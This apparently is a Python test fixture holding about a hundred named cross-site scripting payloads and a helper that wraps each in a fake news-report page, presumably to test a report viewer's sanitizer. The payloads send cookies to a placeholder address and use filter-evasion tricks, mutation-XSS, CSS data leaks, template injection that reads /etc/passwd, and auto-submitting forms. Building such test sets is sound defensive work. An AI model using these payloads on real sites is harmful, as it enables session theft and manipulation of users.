"""Hostile pages: what somebody could write into a report to make a reader's browser act for them.

Each is one body. `ACT` is what a script would do if it ran: show a dialog and send the cookie to a documentation
address that nobody has (RFC 5737).
"""

from __future__ import annotations

from html import escape

AWAY = "http://203.0.113.9"
ACT = f"alert(1);new Image().src='{AWAY}/c?'+encodeURIComponent(document.cookie)"

PAYLOADS: dict[str, str] = {
    "script": f"<script>{ACT}</script>",
    "script from elsewhere": f'<script src="{AWAY}/x.js"></script>',
    "script in odd case": f"<ScRiPt>{ACT}</sCrIpT >",
    "script with a slash": f"<script/x>{ACT}</script>",
    "script as a module": f'<script type="module">{ACT}</script>',
    "script split by nesting": f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    "script never closed": f"<script>{ACT}//",
    "speculation rules": f'<script type="speculationrules">{{"prefetch":[{{"urls":["{AWAY}/s"]}}]}}</script>',
    "import map": f'<script type="importmap">{{"imports":{{"a":"{AWAY}/a.js"}}}}</script>',
    "image error": f'<img src=x onerror="{ACT}">',
    "image error with slashes": f'<img/src=x/onerror="{ACT}">',
    "image error without quotes": "<img src=x onerror=alert(1)>",
    "image with line breaks in its handler": f'<img src=x\nonerror\n=\n"{ACT}">',
    "image never closed": f'<img src=x onerror="{ACT}" ',
    "image from elsewhere": f'<img src="{AWAY}/i.png">',
    "lazy image": f'<img loading=lazy src="{AWAY}/l.png">',
    "srcset": f'<img srcset="{AWAY}/1.png 1x, {AWAY}/2.png 2x">',
    "picture": f'<picture><source srcset="{AWAY}/p.webp"><img src="{AWAY}/p.png"></picture>',
    "body load": f'<body onload="{ACT}">',
    "focus on its own": f'<input autofocus onfocus="{ACT}">',
    "details toggle": f'<details open ontoggle="{ACT}">seen</details>',
    "marquee start": f'<marquee onstart="{ACT}">seen</marquee>',
    "animation end": f'<style>@keyframes k{{}}</style><b style="animation:k 1ms" onanimationend="{ACT}">seen</b>',
    "popover": f'<button popovertarget=p>go</button><b popover id=p onbeforetoggle="{ACT}">seen</b>',
    "video source error": f'<video><source onerror="{ACT}" src=x></video>',
    "audio from elsewhere": f'<audio autoplay src="{AWAY}/a.mp3"></audio>',
    "video poster": f'<video poster="{AWAY}/v.png"></video>',
    "track": f'<video><track default src="{AWAY}/t.vtt"></video>',
    "javascript link": f'<a href="javascript:{ACT}">go</a>',
    "javascript link with entities": '<a href="&#106;avascript&colon;alert(1)">go</a>',
    "javascript link with a tab": '<a href="java\tscript:alert(1)">go</a>',
    "javascript link with control characters": '<a href="&#1;javascript:alert(1)">go</a>',
    "vbscript link": '<a href="vbscript:msgbox(1)">go</a>',
    "data link": '<a href="data:text/html,<script>alert(1)</script>">go</a>',
    "link with ping": f'<a ping="{AWAY}/ping" href="#x">go</a>',
    "link that opens the top": f'<a target=_top href="{AWAY}/top">go</a>',
    "svg load": f'<svg onload="{ACT}"></svg>',
    "svg script": f"<svg><script>{ACT}</script></svg>",
    "svg use": '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=alert(1)/>#x"/></svg>',
    "svg animate": '<svg><a><animate attributeName=href values="javascript:alert(1)"/><text y=20>go</text></a></svg>',
    "svg foreign object": f'<svg><foreignObject><iframe srcdoc="<script>{ACT}</script>"></iframe></foreignObject></svg>',
    "svg image from elsewhere": f'<svg><image href="{AWAY}/s.png"/></svg>',
    "math link": '<math href="javascript:alert(1)"><mtext>go</mtext></math>',
    "refresh to a script": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "refresh to elsewhere": f'<meta http-equiv="refresh" content="0;url={AWAY}/r">',
    "cookie by meta": '<meta http-equiv="set-cookie" content="truceline=stolen">',
    "policy by meta": '<meta http-equiv="content-security-policy" content="default-src * \'unsafe-inline\'">',
    "base": f'<base href="{AWAY}/" target="_top">',
    "form that sends itself": f'<form id=f action="{AWAY}/f"><input name=a></form><script>f.submit()</script>',
    "form that decides": '<form action="/decide" method="post"><input name=action value=reject><button>go</button></form>',
    "button with a form of its own": f'<form><button formaction="javascript:{ACT}">go</button></form>',
    "frame": f'<iframe src="{AWAY}/frame"></iframe>',
    "frame with its own page": f'<iframe srcdoc="<script>{escape(ACT)}</script>"></iframe>',
    "frame with a script address": f'<iframe src="javascript:{ACT}"></iframe>',
    "frame of this workbench": '<iframe src="/decisions"></iframe>',
    "object": f'<object data="{AWAY}/o.swf"></object>',
    "object with data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "embed": f'<embed src="{AWAY}/e.swf">',
    "applet": f'<applet code="{AWAY}/a.class"></applet>',
    "stylesheet from elsewhere": f'<link rel=stylesheet href="{AWAY}/s.css">',
    "connection ahead": f'<link rel=preconnect href="{AWAY}"><link rel=dns-prefetch href="//evil.test">',
    "fetched ahead": f'<link rel=prefetch href="{AWAY}/p"><link rel=preload as=image href="{AWAY}/q.png">',
    "manifest": f'<link rel=manifest href="{AWAY}/m.json">',
    "icon": f'<link rel=icon href="{AWAY}/favicon.ico">',
    "css import": f'<style>@import url("{AWAY}/i.css");</style>',
    "css picture": f"<style>body{{background:url({AWAY}/b.png)}}</style>",
    "css font": f"<style>@font-face{{font-family:f;src:url({AWAY}/f.woff)}}body{{font-family:f}}</style>",
    "css in an attribute": f'<p style="background:url({AWAY}/a.png);position:fixed;inset:0">over all</p>',
    "css that reads attributes": f'<style>input[value^="a"]{{background:url({AWAY}/leak)}}</style>',
    "background attribute": f'<table background="{AWAY}/t.png"><tr><td background="{AWAY}/d.png">x</td></tr></table>',
    "template with a shadow": f'<p><template shadowrootmode="open"><img src=x onerror="{ACT}"></template></p>',
    "noscript closed in an attribute": f'<noscript><p title="</noscript><img src=x onerror={ACT}>"></noscript>',
    "textarea closed in an attribute": '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    "title closed in an attribute": '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
    "style inside math": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "form inside math": (
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)></style></mglyph></form>"
    ),
    "svg style with a comment": '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "comment that ends early": f'<!--><img src=x onerror="{ACT}">-->',
    "comment in an old browser": f"<!--[if IE]><script>{ACT}</script><![endif]-->",
    "character data": f"<![CDATA[<img src=x onerror={ACT}>]]>",
    "processing instruction": f'<?xml-stylesheet href="{AWAY}/x.xsl"?><img src=x onerror=alert(1)>',
    "doctype with an entity": f'<!DOCTYPE a [<!ENTITY x SYSTEM "{AWAY}/x">]>&x;',
    "out of a text field": f"</textarea></pre></title><script>{ACT}</script>",
    "out of an attribute": f'" autofocus onfocus="{ACT}" x="',
    "out of an attribute with single marks": "' onmouseover='alert(1)' x='",
    "encoded twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "entities without an end": "&lt;img src=x onerror=alert(1)&gt &#60script&#62alert(1)&#60/script&#62",
    "full-width brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "other letters that fold": "<\u017fcript>alert(1)</\u017fcript>",
    "seven-bit trick": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "NUL as an entity": f"<scr&#0;ipt>{ACT}</scr&#0;ipt><img src=x on&#0;error=alert(1)>",
    "text turned round": "\u202e<script>alert(1)</script>\u202c \u2066<img src=x onerror=alert(1)>\u2069",
    "zero-width letters": "<\u200bscript>alert(1)</\u200bscript>",
    "a huge attribute": f'<p title="{"A" * 200_000}" onclick="{ACT}">long</p>',
    "very many attributes": "<p " + " ".join(f"a{n}=1" for n in range(5_000)) + f' onclick="{ACT}">many</p>',
    "very deep": "<div>" * 3_000 + f'<img src=x onerror="{ACT}">',
    "htmx": f'<b hx-get="/decisions" hx-trigger="load" hx-on:load="{ACT}" data-hx-post="/decide">go</b>',
    "template language": "{{ 7 * 7 }}{% include '/etc/passwd' %}${alert(1)}<%= 1 %>",
    "names that shadow": "<form name=body><input name=firstChild></form><img name=cookie><a id=find></a><b id=keys></b>",
    "drawn over all": "<dialog open style=position:fixed>Enter your key</dialog><plaintext>",
}
"""What is tried, and its body."""

CALM = (
    "<p>The miller said that he would stay in the valley with his family, and that the two sides should meet again "
    "before the winter. Nobody else was seen on the road that day, and the market in the town was open as usual. An "
    "elder told the reporter that both parties had promised to leave the bridge by June.</p>"
)
OWN = "The Valley Front attacked the mill"


def hostile_page(name: str) -> bytes:
    """A page with a payload as markup, and once more as words in its title, its publisher and its text."""
    payload, words = PAYLOADS[name], escape(PAYLOADS[name][:300])
    return (
        f'<html><head><title>{words}</title><meta property="og:site_name" content="{words}"></head><body><article>'
        f"<h1>The report on {escape(name)}</h1><p>{OWN} on 14 May 2031. It shouted {words} to the crowd, and {len(name)} "
        f"people heard it.</p>{CALM}<p>{payload}</p></article></body></html>"
    ).encode()
